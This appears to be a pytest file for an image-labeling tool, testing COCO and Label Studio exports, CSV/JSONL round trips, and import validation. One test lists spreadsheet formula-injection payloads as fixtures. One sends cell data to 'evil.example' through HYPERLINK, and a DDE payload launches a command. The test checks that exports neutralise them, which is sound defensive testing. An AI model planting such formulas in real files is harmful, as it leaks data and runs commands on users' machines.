"""Exports that the real clients accept (pycocotools, label-studio-sdk), and the way back in.

Issue 13 (interop) and issue 9's export/import findings, each through the real CLI.
"""

from __future__ import annotations

import csv
import json
import os
import shutil

import pytest
from sqlalchemy import select

from labeler.review import decisions as review
from labeler.core import stored_scores
from labeler.store.catalog import Label, ReviewEvent
from labeler.labeling.bulk import label_collection
from labeler.core.prompts import load_prompt_set
from tests.cli import Cli
from tests.conftest import WORLD_SIZE

WORKSHOP = load_prompt_set("workshop")


@pytest.fixture
def labeled(indexed_collection, indexed_cli):
    label_collection(indexed_collection, WORKSHOP, "mean-score")
    return indexed_collection, indexed_cli


def correct_one(collection, group: str = "concept") -> Label:
    """A reviewer corrects one proposal to another option, as the review UI does."""
    with collection.session() as s:
        label = s.scalars(select(Label).where(Label.group == group).order_by(Label.id)).first()
        other = next(o for o in WORKSHOP.groups[group].option_names if o != label.predicted)
        review.decide(s, label.id, "correct", None, label.version, other)
    with collection.session() as s:
        label = s.get(Label, label.id)
        assert label.prompt_set is not None  # loaded, so its stored scores read after the session
        return label


def labels_of(collection) -> dict[tuple[int, str], Label]:
    with collection.session() as s:
        return {(l.image_id, l.group): l for l in s.scalars(select(Label))}


# -- COCO ---------------------------------------------------------------------------------

def test_coco_loads_in_pycocotools_and_scores_one_on_itself(labeled, tmp_path):
    pycocotools = pytest.importorskip("pycocotools")  # noqa: F841
    from pycocotools.coco import COCO
    from pycocotools.cocoeval import COCOeval

    collection, cli = labeled
    corrected = correct_one(collection)
    out = tmp_path / "coco.json"
    cli("export", "--format", "coco", out)
    gt = COCO(str(out))
    data = json.loads(out.read_text())
    assert data["licenses"] == []
    # Category ids follow the prompt set's option order, whatever the collection holds.
    concept = WORKSHOP.groups["concept"]
    names = concept.option_names + ([concept.none_name] if concept.none_name else [])
    assert [c["name"] for c in data["categories"]][:len(names)] == names
    assert [c["id"] for c in data["categories"]] == list(range(1, len(data["categories"]) + 1))
    for image in data["images"]:
        assert not os.path.isabs(image["file_name"]) and image["path"].endswith("/" + image["file_name"])
    for annotation in data["annotations"]:
        image = gt.imgs[annotation["image_id"]]
        assert annotation["bbox"] == [0, 0, image["width"], image["height"]]
        assert annotation["area"] == image["width"] * image["height"] and annotation["iscrowd"] == 0
    # A corrected label: the new value's category, the model's proposal beside it, never its confidence as the score.
    mine = next(a for a in data["annotations"] if a["image_id"] == corrected.image_id)
    assert gt.cats[mine["category_id"]]["name"] == corrected.value
    assert (mine["predicted"], mine["status"]) == (corrected.predicted, "corrected")
    assert mine["predicted_confidence"] == pytest.approx(corrected.confidence)
    assert mine["score"] == pytest.approx(stored_scores.label_scores(corrected)[corrected.value]["confidence"])
    assert mine["score"] != pytest.approx(corrected.confidence)

    results = [{"image_id": a["image_id"], "category_id": a["category_id"], "bbox": a["bbox"], "score": 1.0}
               for a in data["annotations"]]
    evaluation = COCOeval(gt, gt.loadRes(results), "bbox")
    evaluation.evaluate()
    evaluation.accumulate()
    evaluation.summarize()
    assert evaluation.stats[0] == pytest.approx(1.0)  # AP@[.5:.95], all areas


def test_coco_of_several_groups_names_categories_group_value_with_stable_ids(labeled, tmp_path):
    collection, cli = labeled
    cli("export", "--format", "coco", "--group", "color", "--group", "material", tmp_path / "a.json")
    categories = json.loads((tmp_path / "a.json").read_text())["categories"]
    names = [c["name"] for c in categories]
    assert len(names) == len(set(names)) and all(n.split(":", 1)[0] in ("color", "material") for n in names)
    assert names[:len(WORKSHOP.groups["color"].option_names)] == [f"color:{o}" for o in
                                                                  WORKSHOP.groups["color"].option_names]
    # The same prompt set gives the same ids, whatever the labels say.
    cli("label", "--prompt-set", "workshop", "--strategy", "max-score")
    cli("export", "--format", "coco", "--group", "color", "--group", "material", tmp_path / "b.json")
    assert json.loads((tmp_path / "b.json").read_text())["categories"] == categories


def test_coco_root_makes_file_names_relative_and_refuses_images_outside(labeled, world, tmp_path):
    collection, cli = labeled
    cli("export", "--format", "coco", "--root", world.parent, tmp_path / "coco.json")
    images = json.loads((tmp_path / "coco.json").read_text())["images"]
    assert all(i["file_name"].startswith(world.name + "/") for i in images)
    outside = cli("export", "--format", "coco", "--root", tmp_path, tmp_path / "other.json", expect=2)
    assert "is not under --root" in outside.output and not (tmp_path / "other.json").exists()


# -- Label Studio -------------------------------------------------------------------------

def test_label_studio_tasks_and_config_validate_in_the_sdk(labeled, world, tmp_path):
    pytest.importorskip("label_studio_sdk")
    from label_studio_sdk.label_interface import LabelInterface

    collection, cli = labeled
    corrected = correct_one(collection)
    out = tmp_path / "tasks.json"
    report = cli.json("export", "--format", "labelstudio", "--root", world.parent,
                      "--image-url-prefix", "http://files.example/", out)
    config_path = tmp_path / "tasks.labeling-config.xml"
    assert report["config"] == str(config_path)
    interface = LabelInterface(config_path.read_text())
    interface.validate()
    assert {c.name for c in interface.controls} == set(WORKSHOP.groups)
    tasks = json.loads(out.read_text())
    assert len(tasks) == WORLD_SIZE and len({t["id"] for t in tasks}) == WORLD_SIZE
    for task in tasks:
        assert task["data"]["image"] == "http://files.example/" + world.name + "/" + os.path.basename(
            task["data"]["path"])
        for prediction in task["predictions"]:
            assert interface.validate_prediction(prediction, return_errors=True) == []
        for annotation in task.get("annotations", []):
            assert interface.validate_annotation(annotation)
    mine = next(t for t in tasks if t["id"] == corrected.image_id)
    assert mine["annotations"][0]["result"] == [{"from_name": "concept", "to_name": "image", "type": "choices",
                                                 "value": {"choices": [corrected.value]}}]
    predicted = {r["from_name"]: r for r in mine["predictions"][0]["result"]}
    assert predicted["concept"]["value"]["choices"] == [corrected.predicted]
    assert predicted["concept"]["score"] == pytest.approx(corrected.confidence)
    assert mine["data"]["labeler"]["concept"]["status"] == "corrected"
    assert sum("annotations" in t for t in tasks) == 1  # only reviewed labels are annotations


def test_a_label_studio_export_and_its_converter_csv_import_back(labeled, tmp_path):
    pytest.importorskip("label_studio_sdk")
    from label_studio_sdk.converter import Converter

    collection, cli = labeled
    cli("export", "--format", "labelstudio", tmp_path / "tasks.json")
    tasks = json.loads((tmp_path / "tasks.json").read_text())
    # What Label Studio hands back: people annotated two tasks (one agreeing, one not), one cancelled.
    options = WORKSHOP.groups["concept"].option_names
    agreed, changed, cancelled = tasks[0], tasks[1], tasks[2]
    agreed_value = next(r for r in agreed["predictions"][0]["result"]
                        if r["from_name"] == "concept")["value"]["choices"][0]
    predicted_concept = next(r for r in changed["predictions"][0]["result"] if r["from_name"] == "concept")
    new_value = next(o for o in options if o != predicted_concept["value"]["choices"][0])

    def annotation(value: str, **extra) -> dict:
        return {"id": 1, "created_at": "2030-01-01T00:00:00Z", "updated_at": "2030-01-01T00:00:00Z",
                "result": [{"from_name": "concept", "to_name": "image", "type": "choices",
                            "value": {"choices": [value]}}], **extra}

    agreed["annotations"] = [annotation(agreed_value)]
    changed["annotations"] = [annotation(new_value)]
    cancelled["annotations"] = [annotation(new_value, was_cancelled=True)]
    exported = tmp_path / "project-1.json"
    exported.write_text(json.dumps(tasks))
    report = cli.json("import-labels", exported)
    assert report["format"] == "labelstudio" and report["groups"] == ["concept"]
    assert (report["imported"], report["accepted"], report["corrected"]) == (2, 1, 1)
    assert report["skipped"]["no finished annotation (predictions are not reviews)"] == WORLD_SIZE - 2
    labels = labels_of(collection)
    assert (labels[(changed["id"], "concept")].value, labels[(changed["id"], "concept")].status) == (new_value,
                                                                                                  "corrected")
    assert labels[(agreed["id"], "concept")].status == "accepted"

    # Label Studio's converter CSV of the same export reads back too: nothing new to do.
    config = (tmp_path / "tasks.labeling-config.xml").read_text()
    Converter(config, project_dir=None, download_resources=False).convert(
        str(exported), str(tmp_path / "converted.csv"), "CSV", is_dir=False)
    again = cli.json("import-labels", tmp_path / "converted.csv")
    assert again["format"] == "converter-csv" and again["groups"] == ["concept"]
    assert again["unchanged"] == 2 and again["imported"] == 0 and again["unmatched"] == []
    # A converter CSV with only the image URL still finds its images.
    rows = list(csv.DictReader((tmp_path / "converted.csv").open()))
    with (tmp_path / "by_url.csv").open("w", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=["image", "concept", "annotator", "annotation_id"])
        writer.writeheader()
        writer.writerows({k: r[k] for k in writer.fieldnames} for r in rows)
    by_url = cli.json("import-labels", tmp_path / "by_url.csv")
    assert by_url["unchanged"] == 2 and by_url["unmatched"] == []


# -- what every export says -----------------------------------------------------------------

def test_csv_and_jsonl_keep_the_models_answer_apart_from_the_reviewers(labeled, tmp_path):
    collection, cli = labeled
    corrected = correct_one(collection)
    cli("export", "--format", "csv", tmp_path / "labels.csv")
    row = next(r for r in csv.DictReader((tmp_path / "labels.csv").open()) if int(r["image_id"]) == corrected.image_id)
    assert (row["concept"], row["concept:status"], row["concept:predicted"]) == (corrected.value, "corrected",
                                                                                 corrected.predicted)
    assert float(row["concept:predicted_confidence"]) == pytest.approx(corrected.confidence, abs=1e-6)
    assert float(row["concept:confidence"]) == pytest.approx(stored_scores.label_scores(corrected)[corrected.value]["confidence"],
                                                             abs=1e-6)
    cli("export", "--format", "jsonl", tmp_path / "labels.jsonl")
    line = next(json.loads(x) for x in (tmp_path / "labels.jsonl").read_text().splitlines()
                if json.loads(x)["image_id"] == corrected.image_id)
    concept = line["labels"]["concept"]
    assert (concept["value"], concept["predicted"], concept["status"]) == (corrected.value, corrected.predicted,
                                                                           "corrected")
    assert concept["confidence"] == pytest.approx(stored_scores.label_scores(corrected)[corrected.value]["confidence"])
    assert concept["predicted_confidence"] == pytest.approx(corrected.confidence)


def test_jsonl_and_csv_list_every_path_of_a_duplicated_image(world, model_spec, tmp_path):
    folder = tmp_path / "photos"
    folder.mkdir()
    originals = sorted(world.glob("img_*.png"))[:3]
    for path in originals:
        shutil.copy(path, folder / path.name)
    shutil.copy(originals[0], folder / "copy-of-first.png")
    cli = Cli(tmp_path / "home", model_spec)
    cli("index", folder)
    cli("label", "--prompt-set", "workshop", "--group", "concept")
    cli("export", "--format", "jsonl", tmp_path / "labels.jsonl")
    lines = [json.loads(x) for x in (tmp_path / "labels.jsonl").read_text().splitlines()]
    assert len(lines) == 3
    both = {str(folder / originals[0].name), str(folder / "copy-of-first.png")}
    assert any(set(line["paths"]) == both for line in lines)
    cli("export", "--format", "csv", tmp_path / "labels.csv")
    assert any(set(r["paths"].split("|")) == both for r in csv.DictReader((tmp_path / "labels.csv").open()))


# -- safe CSV (issue 9, finding 4) -----------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1,2)", "-2+3"]


def test_csv_export_neutralises_formulas_and_reads_them_back_unchanged(labeled, tmp_path):
    collection, cli = labeled
    with collection.session() as s:
        targets = s.scalars(select(Label).where(Label.group == "concept").order_by(Label.id)).all()[:len(FORMULAS)]
        for label, formula in zip(targets, FORMULAS):
            review.decide(s, label.id, "correct", None, label.version, formula)
        ids = {label.image_id: formula for label, formula in zip(targets, FORMULAS)}
    cli("export", "--format", "csv", tmp_path / "out.csv")
    rows = {int(r["image_id"]): r for r in csv.DictReader((tmp_path / "out.csv").open())}
    for image_id, formula in ids.items():
        assert rows[image_id]["concept"] == "'" + formula
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    back = cli.json("import-labels", tmp_path / "out.csv")
    assert back["imported"] == 0 and back["unchanged"] == len(FORMULAS)


def test_import_never_turns_a_tab_into_a_live_formula(labeled, tmp_path):
    collection, cli = labeled
    image_id = min(image for image, _ in labels_of(collection))
    (tmp_path / "tab.csv").write_text(f"image_id,concept\n{image_id},\t=1+1\n")
    result = cli("import-labels", "--allow-new-values", tmp_path / "tab.csv", expect=2)
    assert "control characters" in result.output and "nothing imported" in result.output
    assert labels_of(collection)[(image_id, "concept")].status == "proposed"


# -- imports that say what they did ---------------------------------------------------------

def test_an_edited_proposal_is_imported_as_a_correction_and_the_rest_are_reported(labeled, tmp_path):
    collection, cli = labeled
    cli("export", "--format", "csv", tmp_path / "labels.csv")
    rows = list(csv.DictReader((tmp_path / "labels.csv").open()))
    edited = rows[0]
    new_value = next(o for o in WORKSHOP.groups["concept"].option_names if o != edited["concept"])
    edited["concept"] = new_value  # concept:status still says proposed: the user meant a correction
    rows[1]["color"] = ""
    with (tmp_path / "edited.csv").open("w", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    report = cli.json("import-labels", tmp_path / "edited.csv")
    assert (report["imported"], report["corrected"], report["unchanged"]) == (1, 1, 0)
    still = "status column says proposed: still the model's value"
    assert report["skipped"] == {still: WORLD_SIZE * len(WORKSHOP.groups) - 2, "empty cell": 1}
    assert report["unknown_values"] == {} and report["unknown_groups"] == [] and report["prompt_set"] == "workshop"
    label = labels_of(collection)[(int(edited["image_id"]), "concept")]
    assert (label.value, label.status) == (new_value, "corrected")
    human = cli("import-labels", tmp_path / "edited.csv").output
    assert "1 unchanged" in human and f"skipped {WORLD_SIZE * len(WORKSHOP.groups) - 2}: {still}" in human


def test_unknown_values_and_groups_are_refused_unless_allowed(labeled, tmp_path):
    collection, cli = labeled
    image_id = min(image for image, _ in labels_of(collection))
    (tmp_path / "new.csv").write_text(f"image_id,concept,colour\n{image_id},banana,teal\n")
    refused = cli("import-labels", tmp_path / "new.csv", "--json", expect=2)
    report = json.loads(refused.stdout)
    assert report["unknown_values"] == {"concept": ["banana"]} and report["unknown_groups"] == ["colour"]
    assert "--allow-new-values" in refused.stderr and len(refused.stderr.strip().splitlines()) == 1
    with collection.session() as s:
        assert s.scalars(select(ReviewEvent)).first() is None  # nothing was written
        assert s.scalars(select(Label).where(Label.group == "colour")).first() is None
    allowed = cli.json("import-labels", tmp_path / "new.csv", "--allow-new-values")
    assert allowed["imported"] == 2 and allowed["unknown_values"] == {"concept": ["banana"]}
    labels = labels_of(collection)
    assert (labels[(image_id, "concept")].value, labels[(image_id, "concept")].status) == ("banana", "corrected")
    # A value already in the catalog is never unknown: a rerun is quiet.
    again = cli.json("import-labels", tmp_path / "new.csv")
    assert again["unchanged"] == 2 and again["unknown_values"] == {} and again["unknown_groups"] == []


@pytest.mark.parametrize("cell, message", [
    ("x" * 100_000, "longer than 256 characters"),
    ("saw\x07", "control characters"),
])
def test_import_applies_the_review_uis_limits(labeled, tmp_path, cell, message):
    collection, cli = labeled
    image_id = min(image for image, _ in labels_of(collection))
    (tmp_path / "bad.csv").write_text(f"image_id,concept\n{image_id},{cell}\n")
    result = cli("import-labels", "--allow-new-values", tmp_path / "bad.csv", expect=2)
    assert message in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert labels_of(collection)[(image_id, "concept")].status == "proposed"


def test_a_nul_in_a_label_studio_export_is_refused(labeled, tmp_path):
    collection, cli = labeled
    image_id = min(image for image, _ in labels_of(collection))
    task = {"id": 1, "data": {"image_id": image_id},
            "annotations": [{"result": [{"from_name": "concept", "to_name": "image", "type": "choices",
                                         "value": {"choices": ["saw\u0000"]}}]}]}
    (tmp_path / "nul.json").write_text(json.dumps([task]))
    result = cli("import-labels", "--allow-new-values", tmp_path / "nul.json", expect=2)
    assert "control characters" in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert labels_of(collection)[(image_id, "concept")].status == "proposed"


@pytest.mark.parametrize("content, message", [
    ("image_id,concept\n1," + "x" * 200_000 + "\n", "a field is longer than"),
    ("image_id,concept\n1,saw\n".encode("utf-16"), "UTF-16"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "NUL bytes"),
    ("file,concept\ncaf\xe9.png,mug\n".encode("latin-1"), "not a readable UTF-8 CSV file"),
])
def test_unreadable_csv_files_are_one_line_and_exit_2(indexed_cli, tmp_path, content, message):
    path = tmp_path / "bad.csv"
    (path.write_bytes if isinstance(content, bytes) else path.write_text)(content)
    result = indexed_cli("import-labels", path, expect=2)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and message in lines[0], result.stderr


# -- export never clobbers (issue 9, finding 5) ------------------------------------------------

def test_export_refuses_an_existing_file_unless_forced(labeled, tmp_path):
    collection, cli = labeled
    out = tmp_path / "labels.csv"
    out.write_text("precious\n")
    refused = cli("export", out, expect=2)
    assert "exists; pass --force" in refused.stderr and out.read_text() == "precious\n"
    cli("export", out, "--force")
    assert out.read_text().startswith("image_id,path,")
    (tmp_path / "tasks.labeling-config.xml").write_text("<View/>")
    refused = cli("export", "--format", "labelstudio", tmp_path / "tasks.json", expect=2)
    assert "tasks.labeling-config.xml exists" in refused.stderr and not (tmp_path / "tasks.json").exists()


def test_export_without_a_format_writes_what_the_name_says_or_asks(labeled, tmp_path):
    collection, cli = labeled
    cli("export", tmp_path / "labels.jsonl")
    first = json.loads((tmp_path / "labels.jsonl").read_text().splitlines()[0])
    assert {"image_id", "path", "labels"} <= set(first) and first["labels"]
    cli("export", tmp_path / "labels")  # no suffix: CSV, as before
    assert (tmp_path / "labels").read_text().startswith("image_id,path,")
    for name, said in (("labels.json", "pass --format coco or --format labelstudio"),
                       ("labels.txt", "pass --format (csv, jsonl, coco, labelstudio, hf, fiftyone)")):
        result = cli("export", tmp_path / name, expect=2)
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("error: ") and said in lines[0], result.stderr
        assert not (tmp_path / name).exists()
    cli("export", "--format", "csv", tmp_path / "labels.json")  # a format given is a format taken
    assert (tmp_path / "labels.json").read_text().startswith("image_id,path,")


def test_export_writes_only_regular_files(labeled, tmp_path):
    collection, cli = labeled
    device = "/dev/null"
    for target in (device, tmp_path):
        result = cli("export", target, "--force", expect=2)
        assert "export writes only regular files" in result.stderr
    assert not os.path.isfile(device)  # still the device
    link = tmp_path / "link.csv"
    link.symlink_to(device)
    assert "only regular files" in cli("export", link, "--force", expect=2).stderr
    real = tmp_path / "real.csv"
    real.write_text("old\n")
    good = tmp_path / "good-link.csv"
    good.symlink_to(real)
    cli("export", good, "--force")
    assert good.is_symlink() and real.read_text().startswith("image_id,path,")


def test_the_readmes_cocoeval_example_runs_as_written(labeled, world, tmp_path, monkeypatch):
    """The README's COCO commands, with ~/photos replaced by the test's world."""
    pytest.importorskip("pycocotools")
    import re
    import subprocess
    import sys

    from tests.cli import ROOT

    collection, cli = labeled
    monkeypatch.chdir(tmp_path)  # the README writes labels-coco.json where it runs
    readme = (ROOT / "README.md").read_text()
    block = readme.split("**COCO, for pycocotools/COCOeval**", 1)[1].split("```", 2)[1]
    export_line, snippet = block.strip().split("\n", 1)
    args = export_line.split()[2:]  # after "python manage.py"
    cli(*[str(world) if a == "~/photos" else a for a in args])
    code = re.search(r'python -c "(.*)"', snippet, re.S).group(1)
    done = subprocess.run([sys.executable, "-c", code], cwd=tmp_path, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert "Average Precision  (AP) @[ IoU=0.50:0.95 | area=   all | maxDets=100 ] = 1.000" in done.stdout
